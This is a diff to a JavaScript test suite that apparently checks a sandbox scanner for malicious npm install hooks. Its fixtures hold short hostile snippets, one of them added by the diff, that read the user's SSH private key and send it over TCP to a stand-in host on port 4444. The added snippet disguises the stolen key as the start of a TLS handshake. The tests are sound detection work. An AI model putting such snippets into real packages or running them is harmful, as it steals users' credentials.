@@ -99,12 +99,22 @@ describe('detonation', () => {
           require('net').connect(4444, '192.0.2.7').end(cipher.update(key));`,
       });
 
-      // On a busy machine the observation may not be whole, which is no clearance either.
-      expect(['suspicious', 'unknown']).toContain(seen.verdict);
+      expect(seen.verdict).toBe('suspicious');
       expect(seen.codes).toContain('detonation-reads-and-connects');
       expect(everything(seen).flatMap(({ connections }) => connections)).toContainEqual({
         ...{ protocol: 'tcp', name: null, address: '192.0.2.7', port: 4444 },
       });
+    });
+
+    it('reads bytes that only begin as TLS does', async () => {
+      const seen = await range.npm(hook('take.js'), {
+        ...INDEX,
+        'take.js': `
+          const key = require('fs').readFileSync(process.env.HOME + '/.ssh/id_ed25519');
+          require('net').connect(4444, '192.0.2.7').end(Buffer.concat([Buffer.from([0x16]), key]));`,
+      });
+
+      expect([seen.verdict, seen.codes.includes('detonation-canary-sent')]).toEqual(['malicious', true]);
     });
   });
 
